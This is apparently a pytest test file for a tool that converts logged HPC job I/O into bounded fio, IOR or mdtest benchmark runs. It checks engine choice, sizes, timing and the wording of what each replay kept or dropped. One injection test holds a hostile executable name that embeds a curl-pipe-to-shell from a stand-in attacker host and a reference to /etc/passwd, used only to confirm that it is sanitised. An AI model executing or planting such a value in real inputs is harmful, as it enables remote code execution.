"""Replay my job, its first step (jobio/replay.py): a job's I/O becomes a bounded
benchmark of the same kind, and the page's words of what it kept and what it could
not. On the committed logs (read in the sandbox, as the worker reads them) and on
jobs written out here."""

import dataclasses

import pytest

from exercises.advisor.job_io import SIZE_BINS, JobIO
from jobio.replay import MIN_SECONDS, NotReplayable, replay_of, sized_for
from jobio.sandbox import parse
from jobs.engines import get_engine
from jobs.engines.base import ITERATIONS_MAX, Pattern, Target
from tests.jobio.logs import log

KiB, MiB, GiB = 2**10, 2**20, 2**30
LIMITS = {"seconds": 20, "memory_bytes": 768 * MiB, "max_bytes": 64 * MiB}


def read(name: str) -> JobIO:
    return parse(log(name), **LIMITS)


def job(**given) -> JobIO:
    """A job's I/O as the log would say it: one process writing 64 MiB in 1 MiB
    requests, start to end, unless `given` says otherwise."""
    base = JobIO(
        job_id=7, uid=1000, nprocs=1, run_time_s=10.0, exe="./app", bytes_written=64 * MiB,
        bytes_read=0, writes=64, reads=0, write_sizes=(0,) * len(SIZE_BINS),
        read_sizes=(0,) * len(SIZE_BINS), sequential_requests=63, consecutive_requests=63,
        first_requests=1, files=1, shared_files=0, footprint_bytes=64 * MiB,
        meta_time_s=0.1, io_time_s=2.0, common_sizes=((1 * MiB, 64),), syncs=1,
    )  # fmt: skip
    return dataclasses.replace(base, **given)


def test_random_4k_writes_replay_as_random_4k_writes_for_the_bounds_seconds() -> None:
    replay = replay_of(read("random-4k"), seconds=30)

    w = replay.workload
    assert (replay.engine, w.pattern, w.block_size) == ("fio", Pattern.RANDOM, 4 * KiB)
    assert (w.processes, w.size_per_process, w.fsync) == (1, 64 * MiB, True)
    # For its seconds, past the page cache: a slow target costs no more time than a fast one.
    assert (w.seconds, w.direct) == (30, True)
    assert replay.scale == 1.0
    assert "requests of 4 KiB" in replay.kept and "at scattered offsets" in replay.kept


def test_a_stream_bigger_than_the_bound_writes_for_its_seconds_instead() -> None:
    replay = replay_of(read("sequential-1m"), max_bytes=1 * GiB, seconds=60)

    w = replay.workload
    assert (replay.engine, w.pattern, w.block_size) == ("fio", Pattern.SEQUENTIAL, 1 * MiB)
    assert (w.size_per_process, w.seconds) == (1 * GiB, 60)
    assert replay.scale == 2.0  # the job wrote 2 GiB
    assert any("for 60 s" in said for said in replay.kept)


def test_many_small_files_replay_as_mdtest_files_made_for_at_most_its_seconds() -> None:
    replay = replay_of(read("small-files"), seconds=30)

    w = replay.workload
    assert replay.engine == "mdtest"
    assert (w.files_per_process, w.size_per_process // w.files_per_process) == (1000, 16 * KiB)
    assert (w.seconds, w.iterations) == (30, 1)  # each target's own rounds: sized_for
    assert "1,000 small files a process" in replay.kept


def test_a_log_that_only_read_replays_as_reads_of_data_laid_out_first_past_the_cache() -> None:
    replay = replay_of(read("read-1m"), max_bytes=256 * MiB, seconds=20)

    w = replay.workload
    assert (replay.engine, w.read_only, w.read_back, w.direct) == ("fio", True, False, True)
    assert (w.block_size, w.size_per_process, w.seconds, w.fsync) == (1 * MiB, 256 * MiB, 20, False)
    argv = get_engine("fio").command(w, Target(directory="/r"))
    assert "--name=write" not in argv and argv[-1] == "--rw=read"
    assert any("reading files laid out before the clock starts" in said for said in replay.kept)
    assert any("data that was there before the job" in said for said in replay.not_kept)


def test_a_log_that_read_small_files_reads_that_many_files_with_fio() -> None:
    replay = replay_of(read("read-small-files"))

    w = replay.workload
    assert (replay.engine, w.read_only, w.files_per_process) == ("fio", True, 1000)
    assert w.size_per_process // w.files_per_process == 16 * KiB


def test_a_job_that_mostly_read_what_it_also_wrote_writes_then_reads_each_timed_apart() -> None:
    replay = replay_of(job(bytes_read=256 * MiB, reads=256, footprint_bytes=64 * MiB))

    w = replay.workload
    assert (w.read_back, w.read_only, w.seconds) == (True, False, 60)


def test_ranks_that_read_a_shared_file_write_it_first_then_read_it_with_ior() -> None:
    readers = job(nprocs=4, files=1, shared_files=1, bytes_written=0, writes=0,
                  bytes_read=256 * MiB, reads=256)  # fmt: skip

    replay = replay_of(readers)

    assert (replay.engine, replay.workload.read_back, replay.workload.seconds) == ("ior", True, 60)
    assert any("the replay writes it first" in said for said in replay.not_kept)


def test_no_replay_is_timed_for_less_than_the_seconds_a_figure_needs() -> None:
    for name in ("random-4k", "small-files", "read-1m", "example"):
        assert replay_of(read(name), seconds=1).workload.seconds == MIN_SECONDS


def test_two_thousand_ranks_on_one_shared_file_replay_as_ior_on_fewer() -> None:
    """VPIC-IO: 2,048 ranks, one shared HDF5 file, 128 MiB requests."""
    replay = replay_of(read("example"), max_bytes=1 * GiB, max_processes=8)

    w = replay.workload
    assert (replay.engine, w.processes, w.file_per_process) == ("ior", 8, False)
    assert w.block_size == 64 * MiB and w.size_per_process * 8 <= 1 * GiB
    assert "all of the job's 2,048 processes: replayed by 8" in replay.not_kept
    assert any("replayed as 64 MiB" in said for said in replay.not_kept)


@pytest.mark.parametrize(
    "given, engine, pattern",
    [
        ({}, "fio", Pattern.SEQUENTIAL),
        ({"sequential_requests": 0, "consecutive_requests": 0}, "fio", Pattern.RANDOM),
        ({"nprocs": 4, "files": 1, "shared_files": 1}, "ior", Pattern.SEQUENTIAL),
        ({"nprocs": 4, "files": 4}, "fio", Pattern.SEQUENTIAL),
        (
            {
                "files": 5000,
                "footprint_bytes": 5000 * 8 * KiB,
                "common_sizes": ((8 * KiB, 5000),),
                "bytes_written": 5000 * 8 * KiB,
            },
            "mdtest",
            Pattern.SEQUENTIAL,
        ),
    ],  # fmt: skip
    ids=["stream", "scattered", "shared-file", "file-per-process", "small-files"],
)
def test_each_shape_gets_its_engine_and_order(given, engine, pattern) -> None:
    replay = replay_of(job(**given))

    assert (replay.engine, replay.workload.pattern) == (engine, pattern)
    # The engine takes it, as it takes an exercise's workload.
    assert get_engine(engine).command(replay.workload, Target(directory="/r"))


def test_a_job_that_read_what_it_wrote_reads_it_back_and_says_whose_data_it_reads() -> None:
    replay = replay_of(job(bytes_read=64 * MiB, reads=64))

    assert replay.workload.read_back and replay.workload.seconds == 60
    assert "reading data another job wrote: the replay reads back its own" in replay.not_kept


def test_tiny_requests_are_replayed_at_the_engines_smallest_and_said_so() -> None:
    replay = replay_of(job(common_sizes=((100, 1000),), writes=1000, bytes_written=100_000))

    assert replay.workload.block_size == 512
    assert "requests of 100 B: replayed as 512 B" in replay.not_kept


def test_a_partial_log_is_replayed_with_what_is_missing_said() -> None:
    assert any("partial" in said for said in replay_of(job(partial=True)).not_kept)


def test_a_log_without_reads_or_writes_cannot_be_replayed_and_says_why() -> None:
    with pytest.raises(NotReplayable, match="no reads or writes of files"):
        replay_of(job(bytes_written=0, writes=0))


def test_nothing_of_the_logs_text_reaches_the_command() -> None:
    hostile = "$(curl evil.example | sh); `id` --output=/etc/passwd"
    replay = replay_of(job(exe=hostile))

    argv = get_engine(replay.engine).command(replay.workload, Target(directory="/r"))
    assert not any(part in " ".join(argv) for part in ("curl", "evil", "`id`", "passwd"))
    assert hostile not in repr(replay)


def test_more_small_files_than_the_bound_of_bytes_holds_are_fewer_and_said_so() -> None:
    many = job(nprocs=2, files=400_000, footprint_bytes=400_000 * 512 * KiB,
               common_sizes=((512 * KiB, 400_000),), bytes_written=400_000 * 512 * KiB)  # fmt: skip
    replay = replay_of(many, max_bytes=1 * GiB)

    assert replay.engine == "mdtest"
    assert replay.replay_bytes <= 1 * GiB
    assert replay.workload.files_per_process == 1024
    assert any("all of its 200,000 files a process at once: replayed with 1,024" in said
               for said in replay.not_kept)  # fmt: skip


def test_a_million_tiny_files_stay_well_within_the_bound_of_files_at_once() -> None:
    """A log of 512-byte files once became mdtest with 524,288 files; the dev $HOME has
    262,144 inodes."""
    tiny = job(nprocs=2, files=1_048_576, footprint_bytes=1_048_576 * 512, writes=1_048_576,
               common_sizes=((512, 1_048_576),), bytes_written=1_048_576 * 512)  # fmt: skip

    w = replay_of(tiny, max_bytes=1 * GiB, max_files=20_000).workload

    assert w.files_per_process * w.processes <= 20_000
    assert w.size_per_process // w.files_per_process >= 512


def test_small_files_every_rank_opened_are_still_files_of_their_own() -> None:
    shared = job(nprocs=4, files=1000, shared_files=1000, footprint_bytes=1000 * 8 * KiB,
                 common_sizes=((8 * KiB, 1000),), bytes_written=1000 * 8 * KiB)  # fmt: skip
    replay = replay_of(shared)

    assert (replay.engine, replay.workload.file_per_process) == ("mdtest", True)


def test_scattered_requests_land_over_files_the_size_of_the_jobs() -> None:
    # 16 MiB of 4 KiB writes scattered over a 64 MiB file: the replay's file is 64 MiB,
    # so its requests are as far apart as the job's (a disk's seeks feel the distance).
    scattered = job(
        bytes_written=16 * MiB, writes=4096, common_sizes=((4 * KiB, 4096),),
        sequential_requests=100, consecutive_requests=50, footprint_bytes=64 * MiB,
    )  # fmt: skip

    w = replay_of(scattered, seconds=5).workload

    assert (w.pattern, w.block_size, w.size_per_process, w.seconds) == (
        Pattern.RANDOM, 4 * KiB, 64 * MiB, 5,
    )  # fmt: skip


def test_ranks_writing_a_shared_file_in_turns_replay_in_the_same_turns() -> None:
    in_turns = job(
        nprocs=64, files=1, shared_files=1, writes=64 * 256, sequential_requests=64 * 255,
        consecutive_requests=0, first_requests=64, bytes_written=256 * MiB,
        footprint_bytes=256 * MiB, common_sizes=((16 * KiB, 64 * 256),),
    )  # fmt: skip

    replay = replay_of(in_turns, max_bytes=64 * MiB, max_processes=8)

    w = replay.workload
    assert (replay.engine, w.processes, w.file_per_process, w.block_size) == (
        "ior", 8, False, 16 * KiB,
    )  # fmt: skip
    # Every piece one request, each rank's pieces between the others': IOR's segments.
    assert (w.segments, w.size_per_process) == (512, 8 * MiB)
    assert "in pieces that take turns with the other processes'" in replay.kept
    argv = get_engine("ior").command(w, Target(directory="/replay"))
    assert argv[argv.index("-b") + 1] == str(16 * KiB) and argv[argv.index("-s") + 1] == "512"
    # Each rank's share in one stretch (IOR's usual layout) stays so.
    in_stretches = dataclasses.replace(in_turns, consecutive_requests=64 * 255)
    assert replay_of(in_stretches, max_bytes=64 * MiB).workload.segments == 1


def test_each_targets_mdtest_is_made_again_until_the_sites_figure_says_it_lasts() -> None:
    plan = replay_of(read("small-files"), seconds=3).workload  # 1,000 files, 1 process

    # 30,000 files a second: 3 × 3 s of them is 270,000 files. More than 20 rounds of
    # the job's 1,000: 20 rounds of 13,500 (within 20,000 files at once), each stopped
    # after 1 s on a target slower than the figure.
    fast = sized_for(plan, "mdtest", 30_000, max_files=20_000)
    assert (fast.iterations, fast.seconds, fast.files_per_process) == (20, 1, 13_500)
    assert fast.size_per_process // fast.files_per_process == 16 * KiB  # the job's files
    # Within the bound of bytes too: 64 MiB holds 4,096 files of 16 KiB.
    tight = sized_for(plan, "mdtest", 30_000, max_files=20_000, max_bytes=64 * MiB)
    assert (tight.files_per_process, tight.iterations) == (4096, 66)
    # 1,000 a second: 9,000 files, so 9 rounds of the job's 1,000, each at most 1 s.
    medium = sized_for(plan, "mdtest", 1_000)
    assert (medium.iterations, medium.seconds, medium.files_per_process) == (9, 1, 1000)
    # 300 a second: 3 rounds of 1 s at most; 100 a second: once, stopped after its 3 s.
    slow = sized_for(plan, "mdtest", 300)
    assert (slow.iterations, slow.seconds) == (3, 1)
    assert sized_for(plan, "mdtest", 100) == plan
    # However fast the figure, no more than the engines' rounds.
    assert sized_for(plan, "mdtest", 10**7, max_files=2000).iterations == ITERATIONS_MAX
    # Without a figure, once; fio and IOR last their seconds by themselves.
    assert sized_for(plan, "mdtest", None) == plan
    stream = replay_of(read("sequential-1m")).workload
    assert sized_for(stream, "fio", 30_000) == stream
    argv = get_engine("mdtest").command(medium, Target(directory="/r"))
    assert argv[argv.index("-i") + 1] == "9" and argv[argv.index("-W") + 1] == "1"
